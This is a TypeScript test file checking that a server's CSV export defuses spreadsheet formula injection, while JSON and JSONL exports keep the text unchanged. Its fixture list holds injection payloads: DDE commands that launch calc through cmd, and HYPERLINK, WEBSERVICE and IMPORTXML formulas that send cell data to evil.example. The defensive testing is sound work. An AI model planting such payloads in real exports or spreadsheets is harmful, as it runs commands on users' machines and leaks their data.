import { parse } from "csv-parse/sync";
import { expect, it, test } from "vitest";
import type { Cell } from "../../../server/exports/column.ts";
import {
	type TextFormat,
	tableText,
} from "../../../server/exports/table-text.ts";

/** Beginnings by which Excel, LibreOffice or Google Sheets may take a cell for more than its text. */
const starts = [
	"=",
	"+",
	"-",
	"@",
	"\t",
	"\r",
	"\n",
	"\0",
	"＝",
	"＋",
	"－",
	"＠",
];
const blanks = ["", " ", "\u00A0", "\t", "\r\n", "\0", " \t "];
const commands = [
	"1+1",
	"cmd|' /C calc'!A0",
	'HYPERLINK("http://evil.example/?"&A1,"Results")',
	'WEBSERVICE("http://evil.example/"&A1)',
	'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
	"SUM(1+1)*cmd|' /C calc'!A0",
	'DDE("cmd";"/C calc";"x")',
	'1"; =2+2; "',
	"1,=2+2",
	"1\r\n=2+2",
];
const formulas = starts.flatMap((start) =>
	blanks.flatMap((blank) =>
		commands.map((command) => `${blank}${start}${command}`),
	),
);

async function textOf(format: TextFormat, rows: Cell[][]): Promise<string> {
	let text = "";
	for await (const piece of tableText(format, ["cell", "after"], [rows])) {
		text += piece;
	}
	return text;
}

test("no spreadsheet takes an answer for a formula, and none is lost", async () => {
	const csv = await textOf(
		"csv",
		formulas.map((formula) => [formula, "after"]),
	);
	const cells: string[][] = parse(csv, { bom: true, from: 2 });
	expect(cells).toEqual(formulas.map((formula) => [`'${formula}`, "after"]));
});

it.each([
	"kind, and = to others",
	"a - b",
	"'quoted'",
	"",
	" two blanks ",
	"5-10",
])("leaves %j as it is", async (text) => {
	const csv = await textOf("csv", [[text, "after"]]);
	expect(parse(csv, { bom: true, from: 2 })).toEqual([[text, "after"]]);
});

it("leaves numbers as they are", async () => {
	const numbers = [-2, -0.5, 1e-7, 0, 12];
	const csv = await textOf(
		"csv",
		numbers.map((number) => [number, null]),
	);
	const cells: string[][] = parse(csv, { bom: true, from: 2 });
	expect(cells.map(([cell]) => Number(cell))).toEqual(numbers);
	expect(csv).not.toContain("'");
});

it.each(["json", "jsonl"] as const)(
	"leaves every text of %s as it is",
	async (format) => {
		const rows = formulas.map((formula) => [formula, "after"]);
		const text = await textOf(format, rows);
		const objects: Record<string, string>[] =
			format === "json"
				? JSON.parse(text)
				: text
						.trim()
						.split("\n")
						.map((line) => JSON.parse(line));
		expect(objects.map(({ cell }) => cell)).toEqual(formulas);
	},
);
